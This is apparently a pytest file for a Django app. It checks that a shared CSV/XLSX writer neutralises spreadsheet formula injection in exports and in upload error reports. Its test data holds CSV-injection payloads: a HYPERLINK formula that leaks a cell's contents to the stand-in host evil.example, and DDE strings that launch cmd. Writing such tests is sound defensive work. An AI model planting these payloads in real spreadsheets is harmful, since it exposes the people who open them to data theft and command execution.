"""The one CSV/XLSX writer (dms.tabular) and the files built with it (issue 11: the sales-plan
upload's errors.csv echoed formulas raw; other exports each had their own neutralising code)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from dms import tabular
from tests.api.support import session_client
from tests.factories import DealerFactory, RegionFactory, hq_user
from tests.reports.plans.support import csv_bytes, upload, xlsx_bytes

REPO = Path(__file__).resolve().parents[2]

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# --- the writer ------------------------------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_text_gets_a_leading_apostrophe(attack: str) -> None:
    rows = parse(tabular.csv_text(["value"], [[attack]]))
    assert rows[1] == ["'" + attack]


def test_numbers_stay_numbers_and_ordinary_text_is_unchanged() -> None:
    text = tabular.csv_text(
        ["a", "b", "c", "d", "e", "f"],
        [[-5, -2.5, Decimal("-12.40"), "Müller-Lüdenscheidt", None, True]],
    )
    assert parse(text)[1] == ["-5", "-2.5", "-12.40", "Müller-Lüdenscheidt", "", "yes"]
    # Text that only looks like a negative number (typed into an upload) is text.
    assert parse(tabular.csv_text(None, [["-5"]])) == [["'-5"]]


def test_streaming_lines_are_the_same_file() -> None:
    rows = [[1, "=A1"], [2, "plain"]]
    assert "".join(tabular.csv_lines(["n", "v"], rows)) == tabular.csv_text(["n", "v"], rows)


def test_workbook_cells_are_never_formulas_and_numbers_stay_numeric() -> None:
    content = tabular.xlsx_bytes(["value", "n"], [[attack, -7] for attack in ATTACKS], title="T")
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet.title == "T"
    for row, attack in zip(sheet.iter_rows(min_row=2), ATTACKS, strict=True):
        text, number = row
        # (XML stores a carriage return as a line feed.)
        assert text.data_type == "s" and text.value == "'" + attack.replace("\r", "\n")
        assert number.data_type == "n" and number.value == -7


def test_every_csv_and_workbook_writer_is_the_one_module() -> None:
    """No other code writes CSV or workbooks with its own (possibly unsafe) code."""
    offenders = []
    for path in REPO.rglob("*.py"):
        relative = path.relative_to(REPO).as_posix()
        if (
            relative.startswith((".venv/", "var/", "tests/", "bench/"))
            or relative == "dms/tabular.py"
        ):
            continue
        source = path.read_text(encoding="utf-8")
        if "csv.writer" in source or "DictWriter" in source or "Workbook(" in source:
            offenders.append(relative)
    assert offenders == []


# --- the files built with it -----------------------------------------------------------------------


@pytest.mark.django_db
def test_plan_upload_errors_csv_neutralises_echoed_formulas() -> None:
    DealerFactory(code="AA01", region=RegionFactory())
    client = session_client(hq_user("hq_admin"))
    content = csv_bytes(
        [
            ['=HYPERLINK("http://evil.example","x")', 1, "A3", "orders", 1],
            ["AA01", 1, "+cmd", "orders", 1],
            ["AA01", 1, "A3", "@SUM(1+1)", 1],
            ["AA01", 1, "A3", "orders", "-3"],
        ]
    )
    response = client.post(
        reverse("reports:plan_upload"),
        {"year": 2026, "note": "budget", "file": upload(content)},
    )
    assert response.status_code == 302
    token = response["Location"].rstrip("/").rsplit("/", 1)[-1]

    errors = client.get(reverse("reports:plan_errors", args=[token]))

    assert errors.status_code == 200
    values = [row[2] for row in parse(errors.content.decode())[1:]]
    assert '\'=HYPERLINK("http://evil.example","x")' in values
    assert "'+cmd" in values and "'@SUM(1+1)" in values
    for value in values:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.django_db
def test_plan_upload_errors_from_a_workbook_are_neutralised_too() -> None:
    """Text cells of an uploaded workbook (its formula cells are read as their cached values)."""
    DealerFactory(code="AA01", region=RegionFactory())
    client = session_client(hq_user("hq_admin"))
    content = xlsx_bytes([["AA01", 1, "+cmd|' /C calc'!A0", "@SUM(1+1)", 1]])
    response = client.post(
        reverse("reports:plan_upload"),
        {"year": 2026, "note": "budget", "file": upload(content, "plan.xlsx")},
    )
    token = response["Location"].rstrip("/").rsplit("/", 1)[-1]
    rows = parse(client.get(reverse("reports:plan_errors", args=[token])).content.decode())
    values = [row[2] for row in rows[1:]]
    assert "'+cmd|' /C calc'!A0" in values and "'@SUM(1+1)" in values, rows


@pytest.mark.django_db
def test_plan_templates_come_from_the_writer(settings: Any) -> None:
    client = session_client(hq_user("hq_admin"))
    DealerFactory(code="AA01", region=RegionFactory())
    text = client.get(reverse("reports:plan_template_csv")).content.decode()
    assert text.splitlines()[0] == "dealer_code,month,model,metric,target"
    sheet = load_workbook(
        io.BytesIO(client.get(reverse("reports:plan_template_xlsx")).content)
    ).worksheets[0]
    assert [c.value for c in sheet[1]] == ["dealer_code", "month", "model", "metric", "target"]
    targets = [row[4].value for row in sheet.iter_rows(min_row=2)]
    assert targets and all(isinstance(t, int) for t in targets)
    assert sheet.column_dimensions["A"].width == 16
